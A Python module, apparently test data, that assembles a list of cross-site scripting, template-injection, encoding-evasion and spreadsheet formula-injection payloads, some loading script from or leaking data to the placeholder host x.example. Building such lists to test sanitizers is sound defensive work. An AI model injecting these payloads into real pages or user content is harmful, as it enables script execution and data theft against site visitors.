"""What strangers write to have it run: each way to get out of where the words stand, with each
element that runs something, and ways that are not made so. All of it would call x()."""

WAYS_OUT = [
    "",
    '">',
    "'>",
    "</script>",
    "</title>",
    "</blockquote></del>",
    "</textarea>",
    "-->",
    "]]>",
    "}}'\"`>",
]
ELEMENTS = [
    "<script>x()</script>",
    "<ScRiPt src=//x.example></ScRiPt >",
    "<img src=x onerror=x()>",
    "<img/src=`x`onerror=x()>",
    "<svg/onload=x()>",
    "<svg><script>x()</script></svg>",
    "<iframe src=javascript:x()></iframe>",
    "<iframe srcdoc='<script>x()</script>'></iframe>",
    "<a href=javascript:x()>[1]</a>",
    "<form><button formaction=javascript:x()>go</button></form>",
    "<details open ontoggle=x()>",
    "<video><source onerror=x()></video>",
    "<body onload=x()>",
    "<object data=data:text/html,<script>x()</script>>",
    "<base href=//x.example>",
    "<meta http-equiv=refresh content='0;javascript:x()'>",
    "<link rel=stylesheet href=//x.example>",
    "<style>*{background:url(//x.example)}</style>",
]
OTHERS = [
    "<!--<script>",
    "' onmouseover='x()' y='",
    '" style="position:fixed" onfocus=x() autofocus y="',
    "javascript:x()",
    "JaVaScRiPt:x()//https://",
    "\tjava\nscript:x()",
    "data:text/html,<script>x()</script>",
    "vbscript:x()",
    "<a title='y>[1]<img src=x onerror=x()>'>[1]</a>",
    "\u2028\u2029</script \n>",
    "\\u003cscript>\\",
    "\\x3cscript\\x3ex()\\x3c/script\\x3e",
    "\\\"}]}</script><script>x()</script>",
    "{{ 7|add:7 }}{% debug %}",
    "${x()}#{x()}<%= x() %>",
    "&lt;script&gt;x()&lt;/script&gt;",
    "&#60;script&#62;x()&#60;/script&#62;",
    "\uff1cscript\uff1ex()\uff1c/script\uff1e",
    "+ADw-script+AD4-x()+ADw-/script+AD4-",
    "\x0b\x1f\ufffe<b>",
    "\u202e<script>x()</script>",
    "<scr<script>ipt>x()</scr</script>ipt>",
    "<<script>x();//<</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=x()>",
    "<img src='//x.example/?",
    "[link](javascript:x())",
    "![picture](x' onerror=x() ')",
    "<https:javascript:x()>",
    "=cmd|'/c calc'!A1",
]  # fmt: skip
# A claim in short has room for 75 characters, and a document for no NUL.
PAYLOADS = [
    payload[:75]
    for payload in [*(way + element for way in WAYS_OUT for element in ELEMENTS), *OTHERS]
]
# As many as share what it takes to set up a page.
CHUNKS = [PAYLOADS[at : at + 25] for at in range(0, len(PAYLOADS), 25)]
